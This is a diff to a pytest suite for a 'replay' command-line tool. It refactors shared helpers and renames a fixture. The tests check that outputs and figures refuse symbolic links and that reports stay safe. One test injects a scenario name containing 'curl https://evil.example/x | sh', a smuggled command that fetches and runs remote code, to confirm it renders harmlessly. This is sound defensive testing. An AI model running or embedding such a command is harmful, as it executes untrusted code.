@@ -10,35 +10,16 @@ import re
 from pathlib import Path
 
 import pytest
-from click.testing import CliRunner
 
 from analysis.figure_files import MAGIC
-from replay.cli import main
 from replay.log import LogError, LogReader, LogWriter
 from replay.log.writer import check_output, write_output
 from replay.messages import TOPIC_SCENARIO
 from replay.report.markup import md, pre
 
+from cli_checks import invoke, one_error
+
 PNG, SVG = MAGIC[".png"], MAGIC[".svg"]
-
-
-def invoke(*args):
-    return CliRunner().invoke(main, [str(a) for a in args], prog_name="replay")
-
-
-def one_error(r) -> str:
-    lines = [line for line in r.stderr.splitlines() if line.strip()]
-    assert r.exit_code == 2, (r.exit_code, r.output)
-    assert len(lines) == 1 and lines[0].startswith("error: "), r.stderr
-    return lines[0]
-
-
-@pytest.fixture(scope="module")
-def base_log(tmp_path_factory) -> Path:
-    path = tmp_path_factory.mktemp("base") / "stick_3step.mcap"
-    r = invoke("run", "stick_3step", "-q", "-o", path)
-    assert r.exit_code == 0, r.output
-    return path
 
 
 @pytest.fixture
@@ -64,10 +45,10 @@ def _same(victims: dict[Path, bytes]) -> None:
 
 
 @pytest.mark.parametrize("target", ["log", "dangling", "loop", "itself"])
-def test_a_link_at_an_output_path_is_refused(base_log, tmp_path, target):
+def test_a_link_at_an_output_path_is_refused(stick_3step_log, tmp_path, target):
     out = tmp_path / "run.mcap"
     if target == "log":  # even a link to an earlier log: the link is not the log
-        out.symlink_to(base_log)
+        out.symlink_to(stick_3step_log)
     elif target == "dangling":
         out.symlink_to(tmp_path / "elsewhere" / "new.mcap")
     elif target == "loop":
@@ -95,42 +76,44 @@ def test_write_output_replaces_a_hard_link_never_writes_into_it(tmp_path, victim
     assert sorted(p.name for p in tmp_path.iterdir()) == ["fig.png", "victim"]
 
 
-def test_run_refuses_a_link_as_its_log(tmp_path, base_log):
+def test_run_refuses_a_link_as_its_log(tmp_path, stick_3step_log):
     out = tmp_path / "run.mcap"
-    out.symlink_to(base_log)
-    before = base_log.read_bytes()
+    out.symlink_to(stick_3step_log)
+    before = stick_3step_log.read_bytes()
     assert "symbolic link" in one_error(invoke("run", "stick_3step", "-q", "-o", out))
-    assert base_log.read_bytes() == before and out.is_symlink()
+    assert stick_3step_log.read_bytes() == before and out.is_symlink()
 
 
 # -- figures ------------------------------------------------------------------------------------
 
 
 @pytest.mark.parametrize("suffix", ["png", "svg"])
-def test_figures_refuse_a_link_to_a_file_they_could_overwrite(base_log, tmp_path, victims, suffix):
+def test_figures_refuse_a_link_to_a_file_they_could_overwrite(
+    stick_3step_log, tmp_path, victims, suffix
+):
     out = tmp_path / "figs"
     out.mkdir()
     target = next(p for p in victims if (p.suffix == ".png") == (suffix == "png"))
     (out / f"stick_3step_fig7.{suffix}").symlink_to(Path("..", "victim", target.name))
-    error = one_error(invoke("figures", base_log, "-o", out))
+    error = one_error(invoke("figures", stick_3step_log, "-o", out))
     assert "through a symbolic link" in error and f"stick_3step_fig7.{suffix}" in error
     _same(victims)
 
 
-def test_figures_never_make_a_file_through_a_dangling_link(base_log, tmp_path):
+def test_figures_never_make_a_file_through_a_dangling_link(stick_3step_log, tmp_path):
     out, outside = tmp_path / "figs", tmp_path / "outside_new.png"
     out.mkdir()
     (out / "stick_3step_fig7.png").symlink_to(outside)
-    assert "symbolic link" in one_error(invoke("figures", base_log, "-o", out))
+    assert "symbolic link" in one_error(invoke("figures", stick_3step_log, "-o", out))
     assert not outside.exists() and not outside.is_symlink()
 
 
-def test_figures_replace_a_hard_link_with_their_own_file(base_log, tmp_path, victims):
+def test_figures_replace_a_hard_link_with_their_own_file(stick_3step_log, tmp_path, victims):
     out = tmp_path / "figs"
     out.mkdir()
     photo = next(p for p in victims if p.suffix == ".png")
     os.link(photo, out / "stick_3step_fig7.png")
-    r = invoke("figures", base_log, "-o", out)
+    r = invoke("figures", stick_3step_log, "-o", out)
     assert r.exit_code == 0, r.output
     _same(victims)
     fig = out / "stick_3step_fig7.png"
@@ -227,11 +210,11 @@ def test_a_command_holding_line_breaks_stays_one_line():
     assert "\u2028" not in block and "\\n" in lines[0]
 
 
-def test_a_report_of_a_log_naming_links_renders_none(base_log, tmp_path):
+def test_a_report_of_a_log_naming_links_renders_none(stick_3step_log, tmp_path):
     logs = tmp_path / "logs"
     logs.mkdir()
     with LogWriter(logs / "a.mcap") as w:
-        for m in LogReader(base_log).messages():
+        for m in LogReader(stick_3step_log).messages():
             data = m.data
             if m.topic == TOPIC_SCENARIO:
                 data = dict(data, name="stick\ncurl https://evil.example/x | sh www.x.y")
@@ -258,7 +241,7 @@ def test_ablate_refuses_a_link_at_a_plot_path_in_one_line(tmp_path, monkeypatch)
     plots = tmp_path / "out" / "ablations" / "catch_arm_limits"
     plots.mkdir(parents=True)
     (plots / "ablation_catch_arm_limits.svg").symlink_to(victim)
-    r = CliRunner().invoke(main, ["ablate", "catch_arm_limits", "--plot-only"])
+    r = invoke("ablate", "catch_arm_limits", "--plot-only")
     assert r.exit_code == 2, r.output
     lines = [line for line in r.output.splitlines() if line.startswith("error: ")]
     assert len(lines) == 1 and "symbolic link" in lines[0] and "Traceback" not in r.output
